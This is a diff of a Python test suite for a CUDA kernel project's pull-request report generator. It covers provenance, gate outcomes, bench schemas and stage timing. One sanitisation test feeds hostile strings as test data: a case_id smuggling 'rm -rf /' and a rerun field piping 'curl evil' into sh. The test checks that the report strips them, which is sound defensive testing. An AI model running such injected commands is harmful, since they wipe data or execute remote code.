@@ -1,8 +1,12 @@
-"""The PR report (flashmoe_science.pipeline.report): golden files from fixture runs, the size limit, stages.json.
+"""The PR report (flashmoe_science.pipeline.report): golden files from fixture runs, provenance, the
+size limit, and stages.json (flashmoe_science.pipeline.stages).
 
 Each folder in tests/fixtures/report/ holds what one run leaves in reports/ (an L4 run's env.json,
 build.json, gates.json, bench.json, stages.json, build.log; base_build.json is passed as
 --base-build) and expected.md, the report it must render to.
+
+Every record in a fixture carries the provenance of FIXTURE_SHA and FIXTURE_RUN, and the tests pin
+the checkout's commit and FLASHMOE_RUN_ID to those, so the goldens do not depend on the real HEAD.
 
 After an intended change to the report's layout, regenerate the golden files and review the diff:
 
@@ -21,7 +25,7 @@ from pathlib import Path
 
 import pytest
 
-from flashmoe_science.pipeline import exitcodes, report
+from flashmoe_science.pipeline import exitcodes, provenance, report, stages
 
 FIXTURES = Path(__file__).parent / "fixtures" / "report"
 REGENERATE = os.environ.get("FLASHMOE_REGEN_GOLDEN") == "1"
@@ -30,20 +34,50 @@ SCENARIOS = {
     "passing": (exitcodes.OK, "## ✅ flashmoe-science: passed"),
     "failing_gates": (
         exitcodes.OK,
-        "## ❌ flashmoe-science: 3 gates failed, new register spills in 1 kernel",
+        "## ❌ flashmoe-science: 3 gates failed, new register spills in 1 kernel; "
+        "bench not compared (no base given)",
     ),
     "regressions": (exitcodes.OK, "## ⚠️ flashmoe-science: 2 regressions"),
     "build_failed": (exitcodes.OK, "## ❌ flashmoe-science: build failed"),
     "missing": (exitcodes.OK, "## ⚠️ flashmoe-science: nothing ran"),
     "unreadable": (exitcodes.USAGE, "## ❌ flashmoe-science: gates.json unreadable"),
+    # gates.json from the last step of a bisect (another commit), bench.json from a third, dirty
+    "stale": (
+        exitcodes.USAGE,
+        "## ⚠️ flashmoe-science: not a verdict on this commit: stale gates.json, stale bench.json",
+    ),
+    # `nox -s env build test report -- -k test_api`
+    "no_gate_selected": (exitcodes.OK, "## ⚠️ flashmoe-science: no gate selected"),
+    # the CPU backend: a CUDA-only selection (every gate skipped), and a bench without a base
+    "cpu": (
+        exitcodes.OK,
+        "## ⚠️ flashmoe-science: every selected gate skipped (needs a GPU); "
+        "bench not compared (no base given)",
+    ),
 }
 
 
+# The commit and run every fixture's provenance names: the report describes this checkout.
+FIXTURE_SHA = "9c41e07b2d5a8f3e61b0c7d94a2e1f5b8c3d6a70"
+FIXTURE_COMMIT = {"sha": FIXTURE_SHA, "dirty": False, "fingerprint": None}
+FIXTURE_RUN = "fixture-run"
+OLDER_SHA = "1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e"
+
+
 @pytest.fixture(autouse=True)
-def _no_github_env(monkeypatch):
-    """The report links the run when it runs in Actions; goldens must not depend on that."""
-    for name in ("GITHUB_STEP_SUMMARY", "GITHUB_SERVER_URL", "GITHUB_REPOSITORY", "GITHUB_RUN_ID"):
+def _fixture_checkout(monkeypatch):
+    """The report links the run when it runs in Actions and times the job from its start; goldens
+    depend on neither. The checkout's commit and the run id are the fixtures', not the real HEAD."""
+    for name in (
+        "GITHUB_STEP_SUMMARY",
+        "GITHUB_SERVER_URL",
+        "GITHUB_REPOSITORY",
+        "GITHUB_RUN_ID",
+        stages.JOB_START_VAR,
+    ):
         monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv(provenance.RUN_ID_VAR, FIXTURE_RUN)
+    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(FIXTURE_COMMIT))
 
 
 def run_report(folder: Path, tmp_path: Path, *extra: str) -> tuple[int, str]:
@@ -96,8 +130,10 @@ def test_failing_gates_say_how_to_rerun(tmp_path):
     gates = json.loads((FIXTURES / "failing_gates" / "gates.json").read_text())
     failing = [c for c in gates["cases"] if c["outcome"] == "failed"]
     assert len(failing) == 3
-    for case in failing:
-        assert f"nox -s test -- -k '{case['case_id']}-{case['device']}'" in text
+    for case in failing:  # CUDA cases demand a GPU: without one they exit 255, never "passed"
+        command = f"FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k '{case['case_id']}-{case['device']}'"
+        assert f"rerun: `{command}`" in text
+    assert [bool(case.get("rerun")) for case in failing] == [True, True, False]  # both sources
     assert "NaN/Inf" in text and "not bit-identical" in text
     assert "🆕 spills" in text
     # failures first: the gates section comes before the passing environment section
@@ -115,7 +151,9 @@ def test_passing_report_has_bench_table_chart_and_comparison(tmp_path):
         in text
     )
     assert "+8 regs" in text  # register change against the base build
-    assert "**total**" in text and "15m 26s" in text  # stage wall times
+    assert (
+        "| **total** | sum of this run's stages (FLASHMOE_JOB_START unset) | **15m 26s** |" in text
+    )
     assert "<details open" not in text  # nothing failed: every section is closed
 
 
@@ -127,6 +165,7 @@ def test_decode_table_alone_gets_the_read_floor_column(tmp_path):
     assert f"| 0.588 (0.89{report.TIMES}) |" in decode  # 0.5884 ms over our 0.6628
     assert column in decode and column not in prefill
     assert "- read floor: unsupported: the read floor needs Triton" in text
+    assert "| unsupported |" in decode and "n/a" not in text  # one word for a refusal
     assert f"1.00{report.TIMES} would be a decode as fast as reading the cache" in text
 
 
@@ -158,20 +197,41 @@ def test_build_log_alone_means_the_build_failed(tmp_path):
     assert "expected a ';'" in text
 
 
+def _provenance(sha: str = FIXTURE_SHA, run: str = FIXTURE_RUN) -> dict:
+    return {"commit": {"sha": sha, "dirty": False, "fingerprint": None}, "run_id": run}
+
+
 def test_missing_keys_do_not_crash(tmp_path):
     reports = tmp_path / "reports"
     reports.mkdir()
-    (reports / "env.json").write_text("{}")
-    (reports / "build.json").write_text('{"kernels": [{}], "arch_list": null}')
-    (reports / "gates.json").write_text('{"cases": [{"outcome": "failed"}, {}]}')
-    (reports / "bench.json").write_text(
-        '{"cases": [{"id": "x", "kind": "prefill", "ours": {}, "baselines": {"sdpa_flash": {"unsupported": "no"}}}], "comparison": {"source": "stored", "cases": [{}]}}'
+    prov = _provenance()
+    (reports / "env.json").write_text(json.dumps({"provenance": prov}))
+    (reports / "build.json").write_text(
+        json.dumps({"provenance": prov, "kernels": [{}], "arch_list": None})
+    )
+    (reports / "gates.json").write_text(
+        json.dumps({"provenance": prov, "cases": [{"outcome": "failed"}, {}]})
     )
     (reports / "stages.json").write_text('{"env": 1.5, "bench": "slow"}')
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     text = (reports / "report.md").read_text()
-    assert text.startswith("## ❌ flashmoe-science: 1 gate failed")
+    assert text.startswith("## ❌ flashmoe-science: 2 gates failed")
     assert_well_formed(text)
+
+
+def test_bench_json_must_match_its_schema(tmp_path):
+    """The report renders what benches/bench.schema.json allows and nothing else."""
+    reports = tmp_path / "reports"
+    shutil.copytree(FIXTURES / "passing", reports, ignore=shutil.ignore_patterns("expected.md"))
+    bench = json.loads((reports / "bench.json").read_text())
+    bench["cases"][0]["baselines"]["sdpa_flash"] = {
+        "unsupported": "no"
+    }  # a shape bench never writes
+    (reports / "bench.json").write_text(json.dumps(bench))
+    assert report.main(["--dir", str(reports)]) == exitcodes.USAGE
+    text = (reports / "report.md").read_text()
+    assert text.startswith("## ❌ flashmoe-science: bench.json unreadable")
+    assert "does not match bench.schema.json at cases/0/baselines/sdpa_flash" in text
 
 
 # ---- the size limit ----
@@ -204,7 +264,11 @@ def oversized(tmp_path: Path, failing: int, bench_rows: int) -> Path:
         case = copy.deepcopy(gates["cases"][i % len(gates["cases"])])
         case["case_id"] += f"-p{i}"
         cases.append(case)
-    gates.update(cases=cases, total=len(cases), failed=failing)
+    gates.update(
+        cases=cases,
+        outcome="failed",
+        gates={"ran": len(cases), "passed": len(cases) - failing, "failed": failing, "skipped": 0},
+    )
     (reports / "gates.json").write_text(json.dumps(gates))
     bench = json.loads((reports / "bench.json").read_text())
     rows = []
@@ -253,7 +317,9 @@ def test_hard_cut_is_the_last_resort(tmp_path):
         {"name": f"check-{i}", "status": "fail", "detail": "x" * 250, "fix": "y" * 250}
         for i in range(400)
     ]
-    (reports / "env.json").write_text(json.dumps({"passed": False, "checks": checks}))
+    (reports / "env.json").write_text(
+        json.dumps({"provenance": _provenance(), "passed": False, "checks": checks})
+    )
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     text = (reports / "report.md").read_text()
     assert_well_formed(text)
@@ -312,6 +378,7 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     (reports / "env.json").write_text(
         json.dumps(
             {
+                "provenance": _provenance(),
                 "passed": False,
                 "checks": [{"name": evil, "status": "fail", "detail": evil, "fix": evil}],
             }
@@ -320,14 +387,16 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     (reports / "gates.json").write_text(
         json.dumps(
             {
+                "provenance": _provenance(),
                 "cases": [
                     {
                         "case_id": "a'; rm -rf / #",
                         "device": "cuda",
                         "outcome": "failed",
                         "failures": [evil],
+                        "rerun": "nox -s test -- -k x; curl evil | sh",
                     }
-                ]
+                ],
             }
         )
     )
@@ -335,20 +404,24 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     text = (reports / "report.md").read_text()
     assert_well_formed(text)
     assert "<img" not in text
-    assert "nox -s test -- -k 'a___rm_-rf____-cuda'" in text  # shell metacharacters replaced
+    # shell metacharacters replaced; a rerun command that is not a plain one is not shown
+    assert "FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k 'a___rm_-rf____-cuda'" in text
+    assert "curl" not in text
 
 
 # ---- stages.json ----
 
 
 def test_record_stage_appends_and_updates(tmp_path):
-    path = report.record_stage("env", 1.25, "ok", directory=tmp_path)
-    report.record_stage("build", 180.0, "ok", directory=tmp_path)
-    report.record_stage("env", 2.5, "fail", directory=tmp_path)
+    path = stages.record_stage("env", 1.25, "ok", 0, directory=tmp_path)
+    stages.record_stage("build", 180.0, "ok", 0, directory=tmp_path)
+    stages.record_stage("env", 2.5, "fail", 1, directory=tmp_path)
     doc = json.loads(path.read_text())
-    assert doc["schema"] == report.STAGES_SCHEMA
+    assert doc["schema"] == stages.SCHEMA
     assert list(doc["stages"]) == ["env", "build"]
-    assert doc["stages"]["env"]["seconds"] == 2.5 and doc["stages"]["env"]["status"] == "fail"
+    env = doc["stages"]["env"]
+    assert (env["seconds"], env["status"], env["exit_code"]) == (2.5, "fail", 1)
+    assert env["provenance"] == {"commit": FIXTURE_COMMIT, "run_id": FIXTURE_RUN}
     assert doc["stages"]["build"]["seconds"] == 180.0
     assert not list(tmp_path.glob("*.tmp")) and not [
         p for p in tmp_path.iterdir() if not p.name.startswith(".") and p != path
@@ -357,21 +430,43 @@ def test_record_stage_appends_and_updates(tmp_path):
 
 def test_record_stage_recovers_from_a_corrupt_file(tmp_path):
     (tmp_path / "stages.json").write_text('{"stages": {"env": ')
-    path = report.record_stage("test", 3.0, directory=tmp_path)
-    assert json.loads(path.read_text())["stages"] == {
-        "test": {
-            "seconds": 3.0,
-            "status": "ok",
-            "timestamp": json.loads(path.read_text())["stages"]["test"]["timestamp"],
-        }
-    }
+    path = stages.record_stage("test", 3.0, "ok", 0, directory=tmp_path)
+    assert list(json.loads(path.read_text())["stages"]) == ["test"]
 
 
-def test_timed_stage_records_failure(tmp_path):
-    with pytest.raises(RuntimeError), report.timed_stage("bench", directory=tmp_path):
+def test_a_new_run_drops_the_stages_of_older_runs(tmp_path, monkeypatch):
+    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-a")
+    stages.record_stage("sanitize", 30.0, "ok", 0, directory=tmp_path)
+    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-b")
+    path = stages.record_stage("env", 1.0, "ok", 0, directory=tmp_path)
+    assert list(json.loads(path.read_text())["stages"]) == ["env"]
+
+
+def test_timed_stage_records_a_crash_as_an_error(tmp_path):
+    with pytest.raises(RuntimeError), stages.timed_stage("bench", directory=tmp_path):
         raise RuntimeError("boom")
     stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["bench"]
-    assert stage["status"] == "fail" and stage["seconds"] >= 0
+    assert stage["status"] == "error" and stage["seconds"] >= 0
+
+
+@pytest.mark.parametrize(
+    ("code", "status"),
+    [
+        (exitcodes.OK, "ok"),
+        (exitcodes.GATE_FAILED, "fail"),
+        (exitcodes.BUILD_FAILED, "fail"),
+        (exitcodes.TOOL_MISSING, "skip"),
+        (exitcodes.ENV_BROKEN, "error"),
+        (exitcodes.USAGE, "error"),
+    ],
+)
+def test_timed_stage_takes_the_status_from_the_exit_code(tmp_path, code, status):
+    with stages.timed_stage("test", directory=tmp_path) as run:
+        running = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
+        assert running["status"] == "running" and running["seconds"] is None
+        run.exit_code = code
+    stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
+    assert (stage["status"], stage["exit_code"]) == (status, code)
 
 
 def test_failed_stage_without_artifact_fails_the_verdict(tmp_path):
@@ -381,7 +476,7 @@ def test_failed_stage_without_artifact_fails_the_verdict(tmp_path):
     )
     (reports / "build.json").unlink()
     (reports / "build.log").unlink()
-    report.record_stage("sanitize", 12.0, "fail", directory=reports)
+    stages.record_stage("sanitize", 12.0, "fail", 1, directory=reports)
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     first = (reports / "report.md").read_text().splitlines()[0]
     assert first == "## ❌ flashmoe-science: build failed, sanitize failed"
@@ -395,28 +490,371 @@ def test_cli_knows_the_command():
 
 
 def test_failed_test_stage_is_not_a_pass_even_when_every_gate_passed(tmp_path):
-    """A unit test (not a gate) failed: gates.json is all green, stages.json says the stage failed."""
-    (tmp_path / "gates.json").write_text(
-        json.dumps(
-            {
-                "schema": "flashmoe-science/gates/1",
-                "total": 1,
-                "failed": 0,
-                "cases": [
-                    {
-                        "case_id": "fwd-fp16-d64-b1-h1x1-sq1-sk1-full",
-                        "device": "cpu",
-                        "outcome": "passed",
-                        "max_diff": 0.001,
-                        "ratio": 0.5,
-                        "failures": [],
-                    }
-                ],
-            }
-        )
-    )
-    report.record_stage("test", 12.0, "fail", tmp_path)
+    """gates.json says passed, the test command failed after it: believe the failure."""
+    gates = json.loads((FIXTURES / "passing" / "gates.json").read_text())
+    (tmp_path / "gates.json").write_text(json.dumps(gates))
+    stages.record_stage("test", 12.0, "fail", 1, tmp_path)
     out = tmp_path / "report.md"
     assert report.main(["--dir", str(tmp_path), "--output", str(out), "--no-step-summary"]) == 0
     first = out.read_text().splitlines()[0]
-    assert first.startswith("## ❌") and "tests outside the gates failed" in first, first
+    assert first.startswith("## ❌") and "test stage failed after its gates passed" in first, first
+
+
+# ---- provenance: a verdict only on this commit's and this run's records ----
+
+
+def copy_fixture(name: str, tmp_path: Path) -> Path:
+    reports = tmp_path / "reports"
+    shutil.copytree(
+        FIXTURES / name, reports, ignore=shutil.ignore_patterns("expected.md", "base_build.json")
+    )
+    return reports
+
+
+def rewrite(path: Path, **changes) -> None:
+    doc = json.loads(path.read_text())
+    doc.update(changes)
+    path.write_text(json.dumps(doc))
+
+
+def render_dir(reports: Path) -> tuple[int, str]:
+    rc = report.main(["--dir", str(reports), "--no-step-summary"])
+    return rc, (reports / "report.md").read_text()
+
+
+def test_gates_of_an_older_commit_are_stale_and_named_with_both_commits(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "gates.json", provenance=_provenance(OLDER_SHA))
+    rc, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert rc == exitcodes.USAGE
+    assert not first.startswith("## ✅") and "stale gates.json" in first
+    assert f"from commit {OLDER_SHA[:12]}, not {FIXTURE_SHA[:12]} (this checkout)" in text
+    assert "24 of 24 gates passed" not in text  # the stale figures are not shown
+
+
+def test_a_record_of_another_run_is_stale(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.USAGE and text.startswith("## ⚠️ flashmoe-science: not a verdict")
+    assert f"from run nox-older-run, not this run ({FIXTURE_RUN})" in text
+
+
+def test_without_a_run_id_only_the_commit_counts(tmp_path, monkeypatch):
+    monkeypatch.delenv(provenance.RUN_ID_VAR)
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", provenance=_provenance(run="nox-older-run"))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.OK and text.startswith("## ✅ flashmoe-science: passed")
+
+
+def test_a_record_without_provenance_is_stale(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    gates = json.loads((reports / "gates.json").read_text())
+    del gates["provenance"]
+    (reports / "gates.json").write_text(json.dumps(gates))
+    rc, text = render_dir(reports)
+    assert rc == exitcodes.USAGE and "stale gates.json" in text.splitlines()[0]
+    assert "without provenance" in text
+
+
+def test_a_dirty_tree_differs_from_its_commit(tmp_path, monkeypatch):
+    dirty = {**FIXTURE_COMMIT, "dirty": True, "fingerprint": "0123456789abcdef"}
+    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(dirty))
+    rc, text = render_dir(copy_fixture("passing", tmp_path))
+    assert rc == exitcodes.USAGE
+    assert f"**commit** `{FIXTURE_SHA[:12]} (dirty 0123456789abcdef)`" in text
+    assert f"not {FIXTURE_SHA[:12]} (dirty 0123456789abcdef) (this checkout)" in text
+
+
+# ---- gates: what did not gate is never a pass ----
+
+
+@pytest.mark.parametrize(
+    ("outcome", "said"),
+    [
+        ("no-gates-selected", "no gate selected"),
+        ("gates-skipped-need-gpu", "every selected gate skipped (needs a GPU)"),
+        ("no-tests-collected", "no tests collected"),
+    ],
+)
+def test_no_pass_without_gates(tmp_path, outcome, said):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        outcome=outcome,
+        gates={"ran": 0, "passed": 0, "failed": 0, "skipped": 0},
+        tests={"passed": 0, "failed": 0, "skipped": 0},
+        cases=[],
+        selection={"keyword": "nothing-cuda", "markexpr": None, "gates_only": False, "args": []},
+    )
+    _, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert first.startswith("## ⚠️") and said in first, first
+    assert "tests outside the gates" not in text and "gates passed" not in text
+    assert "not run" not in text.split("| test |")[1].splitlines()[0]
+
+
+def test_tests_failed_outside_the_gates(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        outcome="tests-failed-outside-gates",
+        tests={"passed": 186, "failed": 1, "skipped": 3},
+        pytest_exit_code=1,
+    )
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: tests outside the gates failed")
+    assert "186 tests passed, 1 failed, 3 skipped" in text
+
+
+def test_gates_and_tests_are_counted_apart(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(
+        reports / "gates.json",
+        gates={"ran": 692, "passed": 692, "failed": 0, "skipped": 0},
+        tests={"passed": 1008, "failed": 0, "skipped": 0},
+    )
+    _, text = render_dir(reports)
+    assert "| ✅ | test | 692 of 692 gates passed · 1,008 tests passed |" in text
+
+
+def test_a_failed_case_is_never_part_of_a_pass(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    gates = json.loads((reports / "gates.json").read_text())
+    gates["cases"][0]["outcome"] = "failed"  # outcome still says "passed"
+    (reports / "gates.json").write_text(json.dumps(gates))
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: 1 gate failed")
+    assert "| ❌ | test | 1 of 24 gates failed ·" in text
+
+
+def test_a_test_stage_that_wrote_no_gates_json_is_not_reported_as_not_run(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    (reports / "gates.json").unlink()
+    _, text = render_dir(reports)
+    assert "| ⚠️ | test | ran, but wrote no gates.json | 5m 13s |" in text
+
+
+def test_a_stage_that_never_finished_fails(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    (reports / "bench.json").unlink()
+    stages.record_stage("bench", None, "running", None, directory=reports)
+    _, text = render_dir(reports)
+    assert text.startswith("## ❌ flashmoe-science: bench did not finish")
+    assert (
+        "| ❌ | bench | did not finish (killed, timed out, or still running) | unfinished |" in text
+    )
+
+
+# ---- bench ----
+
+
+def test_a_bench_without_a_base_is_not_a_plain_pass(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    rewrite(reports / "bench.json", comparison=None)
+    rc, text = render_dir(reports)
+    first = text.splitlines()[0]
+    assert rc == exitcodes.OK
+    assert first == "## ✅ flashmoe-science: passed; bench not compared (no base given)"
+    assert (
+        f"| {report.ICONS[report.NOTE]} | bench | 10 cases, 0.97{report.TIMES} SDPA default "
+        "(geo-mean), not compared (no base given) |" in text
+    )
+    assert (
+        text.splitlines()[5].startswith(f"SDPA ratio ({report.TIMES})")
+        and "not a gate" in text.splitlines()[5]
+    )
+
+
+def test_a_comparison_that_found_no_base_says_why(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    bench["comparison"].update(source="none", reason="origin/main does not build", cases=[])
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    assert text.splitlines()[0].endswith("bench not compared (origin/main does not build)")
+    assert "**Head vs base: not compared**: origin/main does not build." in text
+
+
+SDPA_EFFICIENT_REFUSAL = (
+    "Memory efficient kernel not used because: (Triggered internally at "
+    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line}.); Memory Efficient "
+    "attention does not support enable_gqa with a single query (Triggered internally at "
+    "/pytorch/aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:{line2}.); RuntimeError: No "
+    "available kernel. Aborting execution."
+)
+
+
+def test_each_refusal_once_with_its_reason(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    decode = [c for c in bench["cases"] if c["kind"] == "decode"]
+    for i, case in enumerate(decode + decode[:1]):  # three refusals, two line numbers
+        reason = SDPA_EFFICIENT_REFUSAL.format(line=850 + i % 2, line2=900 + i)
+        case["baselines"]["sdpa-efficient"] = {"status": "unsupported", "reason": reason}
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    line = (
+        "- SDPA efficient: unsupported: Memory Efficient attention does not support enable_gqa "
+        "with a single query; RuntimeError: No available kernel. Aborting execution."
+    )
+    assert text.count("- SDPA efficient:") == 1 and line in text
+    assert "Triggered internally" not in text
+
+
+def test_bandwidth_above_the_copy_ceiling_is_explained(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    decode = next(c for c in bench["cases"] if c["kind"] == "decode")
+    decode["ours"]["pct_copy_ceiling"] = 112.0
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    assert "(112%†)" in text
+    assert "† Above 100% of the copy ceiling: that ceiling streams through DRAM" in text
+    assert "L2" in text
+
+
+def test_the_cpu_report_does_not_speak_of_a_card(tmp_path):
+    _, text = run_report(FIXTURES / "cpu", tmp_path)
+    assert "measured on this card" not in text
+    assert "plumbing checks of the CPU path" in text
+
+
+# ---- build and env ----
+
+
+def test_dynamic_shared_memory_beside_the_static(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    build = json.loads((reports / "build.json").read_text())
+    build["kernels"][0].update(smem_bytes=0, dynamic_smem=98304)
+    del build["kernels"][1]["dynamic_smem"]  # a row of an older build.json
+    (reports / "build.json").write_text(json.dumps(build))
+    _, text = render_dir(reports)
+    assert "| static smem | dynamic smem |" in text
+    rows = [line for line in text.splitlines() if line.startswith("| `flash_fwd_kernel")]
+    assert "| 0 B | 96 KiB |" in rows[0]
+    assert "| 48 KiB | — |" in rows[1]  # no field: unknown, never 0 B
+
+
+def test_extension_not_built_is_no_news_when_the_build_ran(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    _, text = render_dir(reports)
+    assert "not built yet" not in text
+    (reports / "build.json").unlink()
+    _, text = render_dir(reports)
+    assert "not built yet" in text
+
+
+# ---- wall times: every stage, and the job's total ----
+
+
+def test_every_stage_timed_once_by_the_cli_and_the_total_is_the_jobs(tmp_path, monkeypatch):
+    import sys
+    import types
+
+    from flashmoe_science.pipeline import cli
+
+    reports = tmp_path / "reports"
+    monkeypatch.setenv("FLASHMOE_REPORT_DIR", str(reports))
+    codes = {"env": 0, "build": 0, "test": 1, "bench": 0, "sanitize": exitcodes.TOOL_MISSING}
+    for name, code in codes.items():
+        module = types.ModuleType(f"fake_{name}")
+        module.main = lambda argv, code=code: code
+        monkeypatch.setitem(sys.modules, module.__name__, module)
+        monkeypatch.setitem(cli.COMMANDS, name, (module.__name__, "stand-in"))
+        assert cli.main([name]) == code
+    monkeypatch.setenv(stages.JOB_START_VAR, str(int(__import__("time").time()) - 449))
+    assert report.main(["--dir", str(reports), "--no-step-summary"]) == exitcodes.OK
+    text = (reports / "report.md").read_text()
+    table = text[text.index("| stage |") : text.index("**total**")]
+    rows = [line for line in table.splitlines()[2:] if line.count("|") > 3]
+    assert len(rows) == 5 and all(not row.endswith("| — |") for row in rows), rows
+    assert "| ❌ | test | failed before writing gates.json |" in text
+    assert "| ⚠️ | build | ran, but wrote no build.json |" in text
+    assert "| ⏭️ | sanitize | skipped (a tool is missing) |" in text
+    total = re.search(
+        r"\| \*\*total\*\* \| the job, from its first step \| \*\*(7m \d\ds)\*\* \|", text
+    )
+    assert total and total.group(1) in ("7m 29s", "7m 30s"), text
+
+
+def test_help_is_not_a_stage(tmp_path, monkeypatch):
+    from flashmoe_science.pipeline import cli
+
+    monkeypatch.setenv("FLASHMOE_REPORT_DIR", str(tmp_path))
+    with pytest.raises(SystemExit):
+        cli.main(["env", "--help"])
+    assert not (tmp_path / "stages.json").exists()
+
+
+def test_a_job_start_that_is_not_this_job_is_ignored():
+    assert stages.job_seconds(stages.job_start({"FLASHMOE_JOB_START": "soon"})) is None
+    assert stages.job_seconds(1000.0, now=900.0) is None  # in the future
+    assert stages.job_seconds(1000.0, now=1000.0 + 30 * 24 * 3600) is None  # a month ago
+    assert stages.job_seconds(1000.0, now=1449.0) == 449.0
+
+
+@pytest.mark.parametrize(("workflow", "job"), [("gpu-ci.yml", "gpu"), ("cpu-ci.yml", "cpu-tests")])
+def test_the_ci_jobs_give_the_report_the_jobs_start_and_one_run_id(workflow, job):
+    yaml = pytest.importorskip("yaml")
+    spec = yaml.safe_load(
+        (Path(__file__).parents[1] / ".github" / "workflows" / workflow).read_text()
+    )
+    job_spec = spec["jobs"][job]
+    first = job_spec["steps"][0]
+    assert first["run"] == 'echo "FLASHMOE_JOB_START=$(date +%s)" >> "$GITHUB_ENV"'
+    assert "github.run_id" in job_spec["env"][provenance.RUN_ID_VAR]
+
+
+def test_without_jsonschema_the_bench_renders_with_a_caveat(tmp_path, monkeypatch):
+    import sys
+
+    monkeypatch.setitem(sys.modules, "jsonschema", None)  # `import jsonschema` raises ImportError
+    rc, text = render_dir(copy_fixture("passing", tmp_path))
+    assert rc == exitcodes.OK
+    assert (
+        "> **Note:** bench.json was not checked against its schema: jsonschema is not installed"
+        in text
+    )
+
+
+def test_a_schema_that_declares_provenance_checks_it(tmp_path):
+    from flashmoe_science.pipeline.report.inputs import BENCH_SCHEMA, bench_problem
+
+    schema = json.loads(BENCH_SCHEMA.read_text())
+    schema["properties"]["provenance"] = {"type": "object", "required": ["commit", "run_id"]}
+    path = tmp_path / "bench.schema.json"
+    path.write_text(json.dumps(schema))
+    bench = json.loads((FIXTURES / "passing" / "bench.json").read_text())
+    assert bench_problem(bench, path) == (None, None)
+    bench["provenance"] = {"commit": FIXTURE_COMMIT}
+    problem, _ = bench_problem(bench, path)
+    assert problem and "at provenance: 'run_id' is a required property" in problem
+
+
+def test_a_comparison_without_a_compared_case_is_not_compared(tmp_path):
+    reports = copy_fixture("passing", tmp_path)
+    bench = json.loads((reports / "bench.json").read_text())
+    bench["comparison"]["cases"] = [{"id": "x", "verdict": "missing", "reason": "base failed"}]
+    (reports / "bench.json").write_text(json.dumps(bench))
+    _, text = render_dir(reports)
+    assert text.splitlines()[0].endswith(
+        "bench not compared (no case has a base timing, 1 case missing)"
+    )
+
+
+def test_an_unusable_job_start_is_said(tmp_path, monkeypatch):
+    monkeypatch.setenv(stages.JOB_START_VAR, "yesterday")
+    _, text = render_dir(copy_fixture("passing", tmp_path))
+    assert "FLASHMOE_JOB_START='yesterday' is not this job's start" in text
+    assert "sum of this run's stages" in text
+
+
+def test_a_report_folder_that_cannot_be_written_does_not_fail_the_stage(tmp_path, capsys):
+    blocker = tmp_path / "not-a-folder"
+    blocker.write_text("")
+    with stages.timed_stage("env", directory=blocker) as run:
+        run.exit_code = exitcodes.OK
+    assert "env: cannot record the stage in stages.json" in capsys.readouterr().err
